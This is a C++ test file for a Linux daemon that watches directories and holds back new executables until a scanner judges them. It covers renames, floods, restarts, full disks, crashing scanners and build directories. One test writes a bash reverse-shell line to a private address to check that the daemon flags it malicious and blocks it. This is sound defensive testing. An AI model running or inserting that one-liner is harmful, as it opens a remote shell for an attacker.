// The watched directories and the judge under bad input and faults, for real (root): the daemon's
// directory watcher (subdirectories, renames, flat directories), its sweeps (at start, after a full
// queue), a 10,000-file flood, a restart under load, and files too large, changed, vanished, or
// judged by a crashing scanner or on a full disk. Shared fixture: watch_fixture.h.
#include <sys/statvfs.h>
#include <sys/xattr.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <map>

#include <fmt/format.h>

#include <nlohmann/json.hpp>

#include "test_env.h"
#include "watch/xattr_names.h"
#include "watch_fixture.h"

namespace {

using namespace watch_test;
using Watcher = WatchDaemonTest;

// The file's verdict word from its xattr ("" when it has none).
std::string VerdictOf(const std::string& path) {
  std::array<char, 256> v{};
  ssize_t n = ::getxattr(path.c_str(), airlock::watch::kVerdictXattr, v.data(), v.size());
  if (n <= 0) return "";
  std::string s(v.data(), static_cast<size_t>(n));
  return s.substr(0, s.find(' '));
}

// Waits until every path has a verdict xattr, or (up to `limit`) until 60 s pass without progress;
// the number still without one.
size_t WaitForVerdicts(const std::vector<std::string>& paths, std::chrono::seconds limit) {
  size_t missing = paths.size();
  auto progress = Clock::now();
  for (auto until = Clock::now() + limit; Clock::now() < until && Clock::now() - progress < std::chrono::seconds(60);) {
    const auto now_missing = static_cast<size_t>(std::count_if(paths.begin(), paths.end(), [](const std::string& p) { return VerdictOf(p).empty(); }));
    if (now_missing < missing) progress = Clock::now();
    missing = now_missing;
    if (missing == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
  }
  return missing;
}

// Free bytes on the filesystem holding `dir`, polled until more than `want` or `limit` passes.
uint64_t FreeBytesWithin(const std::string& dir, uint64_t want, std::chrono::seconds limit) {
  uint64_t free = 0;
  for (auto until = Clock::now() + limit;; std::this_thread::sleep_for(std::chrono::milliseconds(100))) {
    struct statvfs v{};
    free = ::statvfs(dir.c_str(), &v) == 0 ? static_cast<uint64_t>(v.f_bavail) * v.f_frsize : 0;
    if (free > want || Clock::now() >= until) return free;
  }
}

std::string Script(int n) { return "#!/bin/sh\necho flood " + std::to_string(n) + "\n"; }

nlohmann::json Status(const std::string& state) {
  std::ifstream in(state + "/status.json");
  std::string text((std::istreambuf_iterator<char>(in)), {});
  return nlohmann::json::parse(text, nullptr, false);
}

TEST_F(Watcher, SubdirectoriesRenamesAndMovedDirectoriesAreJudged) {
  const std::string dl = files_ + "/dl", flat = files_ + "/flat", out = files_ + "/outside";
  fs::create_directories(flat + "/sub");
  fs::create_directories(out + "/pkg");
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--watch-flat", flat});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  // A subdirectory made after the start, two levels down.
  fs::create_directories(dl + "/a/b");
  WriteFile(dl + "/a/b/deep.sh", "#!/bin/sh\nexit 3\n");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/a/b/deep.sh")) << d.log();
  // A file renamed in from outside the watched directory (written there, never closed in dl).
  WriteFile(out + "/fetched.sh", "#!/bin/sh\nexit 4\n");
  fs::rename(out + "/fetched.sh", dl + "/fetched.sh");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/fetched.sh")) << d.log();
  // A whole directory moved in: its files are offered, and it is watched from then on.
  WriteFile(out + "/pkg/run.sh", "#!/bin/sh\nexit 5\n");
  fs::rename(out + "/pkg", dl + "/pkg");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/pkg/run.sh")) << d.log();
  // A watched subdirectory renamed: new files are reported under its new name.
  fs::rename(dl + "/a", dl + "/c");
  WriteFile(dl + "/c/b/after.sh", "#!/bin/sh\nexit 6\n");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/c/b/after.sh")) << d.log();
  // A flat directory: its own files, not its subdirectories'.
  WriteFile(flat + "/sub/inner.sh", "#!/bin/sh\nexit 7\n");
  WriteFile(flat + "/top.sh", "#!/bin/sh\nexit 8\n");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + flat + "/top.sh")) << d.log();
  EXPECT_EQ(d.log().find("path=" + flat + "/sub/inner.sh"), std::string::npos) << d.log();
  // ...but a mail client's attachment cache made there later is watched with its subdirectories
  // (default watch_flat_subdirs: Thunderbird's mozilla_<user>0, Evolution's evolution-*).
  fs::create_directories(flat + "/mozilla_root0/part");
  WriteFile(flat + "/mozilla_root0/part/invoice.sh", "#!/bin/sh\nexit 10\n");
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + flat + "/mozilla_root0/part/invoice.sh")) << d.log();
  // What was judged runs; nothing was refused that the judge had not seen first.
  EXPECT_EQ(Exec({dl + "/c/b/deep.sh"}).status, 3);
  EXPECT_EQ(Exec({dl + "/pkg/run.sh"}).status, 5);
}

// 10,000 files at once (10 contents) into a queue of 500: the queue refuses, the watcher sweeps, and
// every file ends with a verdict; a file someone tries to run meanwhile is refused, then judged ahead
// of the flood.
TEST_F(Watcher, AFloodIsJudgedWholeAndAnExecJumpsTheQueue) {
  const std::string dl = files_ + "/dl", state = g_root + "-state";
  fs::create_directories(dl + "/flood");
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--queue-limit", "500", "--no-start-sweep"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  std::vector<std::string> flood;
  for (int i = 0; i < 10000; ++i) {
    flood.push_back(fmt::format("{}/flood/f{:05}.sh", dl, i));
    WriteFile(flood.back(), Script(i % 10));
  }
  const std::string urgent = dl + "/now.sh";
  WriteFile(urgent, "#!/bin/sh\nexit 9\n");
  EXPECT_EQ(Exec({urgent}).err, EPERM) << "unjudged: refused at once, and queued ahead of the flood";
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + urgent)) << d.log().substr(0, 4000);
  EXPECT_EQ(Exec({urgent}).status, 9);
  const size_t missing = WaitForVerdicts(flood, std::chrono::seconds(600));
  EXPECT_EQ(missing, 0u) << "files of the flood without a verdict";
  // The judge refused work and the watcher swept it up; each content was analysed once.
  nlohmann::json st;
  for (int i = 0; i < 30 && !(st = Status(state)).is_object(); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(200));
  ASSERT_TRUE(st.is_object());
  EXPECT_GT(st["judge"]["dropped"].get<uint64_t>(), 0u) << st.dump();
  EXPECT_GE(st["watcher"]["sweeps"].get<uint64_t>(), 1u) << st.dump();
  // 11 contents; two workers may take the same new content at once, never more.
  EXPECT_LE(st["judge"]["judged"].get<uint64_t>(), 22u) << st.dump();
  EXPECT_EQ(Exec({flood[1234]}).status, 0);
  std::cerr << "[          ] flood: " << st["judge"].dump() << " " << st["watcher"].dump() << "\n";
}

// The daemon stopped while files keep landing, then started again: what arrived meanwhile is judged
// by the start sweep; verdicts of the first daemon hold at once in the second.
TEST_F(Watcher, ARestartUnderLoadLosesNoFile) {
  const std::string dl = files_ + "/dl";
  fs::create_directories(dl + "/batch");
  const std::string first = dl + "/first.sh";
  std::vector<std::string> files;
  for (int i = 0; i < 400; ++i) files.push_back(fmt::format("{}/batch/b{:03}.sh", dl, i));
  std::atomic<size_t> written{0};
  auto write_some = [&](size_t upto) {
    for (; written < upto; ++written) {
      WriteFile(files[written], Script(100 + static_cast<int>(written % 7)));
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
  };
  {
    Daemon a({"--enforce", "--mark-fs", g_root, "--watch", dl});
    ASSERT_TRUE(a.WaitFor("ready pid=")) << a.log();
    WriteFile(first, "#!/bin/sh\nexit 11\n");
    ASSERT_TRUE(a.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + first)) << a.log();
    std::thread writer([&] { write_some(200); });
    writer.join();
    a.Stop(SIGTERM);  // mid-stream: the queue is not empty
    EXPECT_TRUE(a.WaitFor("stopping on signal")) << a.log();
  }
  write_some(400);  // while no daemon runs (nothing is gated then: docs/ENDPOINT.md)
  Daemon b({"--enforce", "--mark-fs", g_root, "--watch", dl});
  ASSERT_TRUE(b.WaitFor("ready pid=.* verdicts=[1-9]")) << b.log();
  EXPECT_EQ(Exec({first}).status, 11) << "judged by the first daemon: runs at once";
  EXPECT_EQ(WaitForVerdicts(files, std::chrono::seconds(300)), 0u) << b.log().substr(0, 4000);
  EXPECT_TRUE(b.WaitFor("watch: sweep 1 done: [0-9]+ files")) << b.log();
  EXPECT_EQ(Exec({files[399]}).err, 0);
}

TEST_F(Watcher, TooLargeChangedAndVanishedFilesHaveDefinedResults) {
  const std::string dl = files_ + "/dl";
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--max-file-size-mb", "1"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  // Too large: not judged, so never run (airlock open is the way to use it).
  const std::string huge = dl + "/huge";
  fs::copy_file("/usr/bin/true", huge);
  {
    std::ofstream f(huge, std::ios::app | std::ios::binary);
    f << std::string(2 << 20, '\0');
  }
  ::chmod(huge.c_str(), 0755);
  EXPECT_TRUE(d.WaitFor("judge: " + huge + " not judged: larger than 1048576 bytes")) << d.log();
  EXPECT_EQ(Exec({huge}).err, EPERM);
  // Vanished before its turn: skipped, and the daemon goes on.
  for (int i = 0; i < 50; ++i) {
    const std::string gone = fmt::format("{}/gone{}.sh", dl, i);
    WriteFile(gone, Script(200 + i));
    fs::remove(gone);
  }
  // Changed after a clean verdict: the new content is unjudged, then judged on its own.
  const std::string tool = dl + "/tool.sh";
  WriteFile(tool, "#!/bin/sh\nexit 12\n");
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + tool)) << d.log();
  EXPECT_EQ(Exec({tool}).status, 12);
  WriteFile(tool, "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
  EXPECT_EQ(Exec({tool}).err, EPERM);
  EXPECT_TRUE(d.WaitFor("verdict malicious sha256:[0-9a-f]+ score=[0-9.]+ path=" + tool)) << d.log();
  EXPECT_EQ(Exec({tool}).err, EPERM);
  EXPECT_EQ(VerdictOf(tool), "malicious");
  EXPECT_EQ(::kill(d.pid(), 0), 0) << "the daemon is still running";
}

// A full disk under the staging area, and a scanner that crashes: the file is not judged, said so,
// and stays refused; other files are judged as before.
TEST_F(Watcher, AFullDiskAndACrashingScannerLeaveFilesRefused) {
  const std::string dl = files_ + "/dl", state = files_ + "/small-state";
  fs::create_directories(state);
  ASSERT_EQ(::mount("tmpfs", state.c_str(), "tmpfs", 0, "size=3m,mode=0700"), 0) << std::strerror(errno);
  {
    Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--state-dir", state});
    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
    const std::string big = dl + "/big";
    fs::copy_file("/usr/bin/true", big);
    {
      std::ofstream f(big, std::ios::app | std::ios::binary);
      f << std::string(4 << 20, 'x');
    }
    ::chmod(big.c_str(), 0755);
    EXPECT_TRUE(d.WaitFor("judge: " + big + " not judged: stage .*: No space left on device")) << d.log();
    EXPECT_EQ(Exec({big}).err, EPERM);
    // The partial copy is gone once the job ends: kept, it would fill the disk for a worker whose
    // next file is another's (two workers here).
    EXPECT_GT(FreeBytesWithin(state, 2u << 20, std::chrono::seconds(10)), 2u << 20) << d.log();
    WriteFile(dl + "/small.sh", "#!/bin/sh\nexit 13\n");
    EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/small.sh")) << d.log();
    EXPECT_EQ(Exec({dl + "/small.sh"}).status, 13);
  }
  ::umount2(state.c_str(), MNT_DETACH);
  // The scanner dies of SIGSEGV in its sandbox (AIRLOCK_LIBEXEC_DIR points at a crashing one).
  const std::string libexec = files_ + "/libexec";
  fs::create_directories(libexec);
  WriteFile(libexec + "/airlock-scan", "#!/bin/sh\nkill -SEGV $$\n");
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--no-start-sweep"}, {"AIRLOCK_LIBEXEC_DIR=" + libexec});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  const std::string crashed = dl + "/crashed.sh";
  WriteFile(crashed, "#!/bin/sh\nexit 14\n");
  EXPECT_TRUE(d.WaitFor("judge: " + crashed + " not judged: static triage: airlock-scan in its sandbox exited")) << d.log();
  EXPECT_EQ(Exec({crashed}).err, EPERM);
  EXPECT_EQ(VerdictOf(crashed), "");
}

// What `airlock analyze` can run is detonated after static triage: a script and a web page (in
// Chromium, when installed); a file it has no way to run (a plain text note) is judged statically.
TEST_F(Watcher, WhatAnalyzeCanRunIsDetonated) {
  const std::string dl = files_ + "/dl", state = g_root + "-state";
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--detonate-timeout", "10"}, {}, /*detonate=*/true);
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  WriteFile(dl + "/tool.sh", "#!/bin/sh\necho hello\n");
  WriteFile(dl + "/notes.txt", "remember the milk\n", 0644);
  const bool chromium = ::access("/usr/bin/chromium", X_OK) == 0;
  if (chromium) WriteFile(dl + "/page.html", "<!doctype html><html><body><p>hello</p></body></html>\n", 0644);
  for (std::string f : {"tool.sh", "notes.txt"}) {
    ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/" + f)) << d.log();
  }
  if (chromium) {
    ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/page.html")) << d.log();
  }
  auto list = airlock::test::Run({WATCH_BIN, "verdicts", "--state-dir", state, "list", "--json"});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  auto j = nlohmann::json::parse(list.out, nullptr, false);
  ASSERT_TRUE(j.is_object()) << list.out;
  std::map<std::string, bool> detonated;
  for (const auto& v : j["verdicts"]) detonated[fs::path(v["path"].get<std::string>()).filename().string()] = v["detail"].contains("detonation");
  EXPECT_TRUE(detonated["tool.sh"]) << list.out;
  EXPECT_FALSE(detonated["notes.txt"]) << list.out;
  if (chromium) {
    EXPECT_TRUE(detonated["page.html"]) << list.out;
  } else {
    std::cerr << "[          ] no /usr/bin/chromium: the web page case is not tried (apt-get install chromium)\n";
  }
}

// Builds: what a dpkg-installed linker writes in a build directory runs at once; a file written there
// by anything else, or a built file overwritten by anything else, is refused until judged. Off by
// default: the linker's output is refused like any new program.
TEST_F(Watcher, WhatATrustedBuilderWritesRunsAndNothingElseDoes) {
  const std::string gcc = "/usr/bin/gcc";
  if (::access(gcc.c_str(), X_OK) != 0) GTEST_SKIP() << "no " << gcc << " (apt-get install gcc)";
  const std::string src = files_ + "/src", build = files_ + "/build";
  fs::create_directories(src);
  fs::create_directories(build);
  // Each program its own content: a verdict for one (the first daemon judges `off` once refused)
  // must never be what lets another run.
  WriteFile(src + "/off.c", "int main(void) { return 20; }\n", 0644);
  WriteFile(src + "/hello.c", "int main(void) { return 21; }\n", 0644);
  WriteFile(src + "/again.c", "int main(void) { return 22; }\n", 0644);
  {
    Daemon off({"--enforce", "--mark-fs", g_root, "--watch", files_ + "/dl"});
    ASSERT_TRUE(off.WaitFor("ready pid=")) << off.log();
    ASSERT_EQ(Exec({gcc, "-o", build + "/off", src + "/off.c"}).status, 0);
    EXPECT_EQ(Exec({build + "/off"}).err, EPERM) << "off by default: a new program waits for its verdict";
  }
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", files_ + "/dl", "--build-dir", build});
  ASSERT_TRUE(d.WaitFor("ready pid=.* build_dirs=\\[" + build + "/\\]")) << d.log();
  ASSERT_EQ(Exec({gcc, "-o", build + "/hello", src + "/hello.c"}).status, 0);
  EXPECT_EQ(Exec({build + "/hello"}).status, 21) << "built by ld: runs at once" << d.log();
  EXPECT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=0 path=" + build + "/hello")) << d.log();
  // Written by a program that is no builder (cat): refused.
  ASSERT_EQ(Exec({"/bin/sh", "-c", "cat /usr/bin/true > " + build + "/copied && chmod 755 " + build + "/copied"}).status, 0);
  EXPECT_EQ(Exec({build + "/copied"}).err, EPERM);
  // Built, then overwritten in place by a program that is no builder: the new content is refused.
  ASSERT_EQ(Exec({gcc, "-o", build + "/again", src + "/again.c"}).status, 0);
  ASSERT_EQ(Exec({"/bin/sh", "-c", "cat /usr/bin/false > " + build + "/again"}).status, 0);
  EXPECT_EQ(Exec({build + "/again"}).err, EPERM) << d.log();
  EXPECT_TRUE(d.WaitFor("deny exec .* path=" + build + "/again .* reason=not judged yet")) << d.log();
}

}  // namespace

int main(int argc, char** argv) { return watch_test::RunWatchTests(argc, argv); }
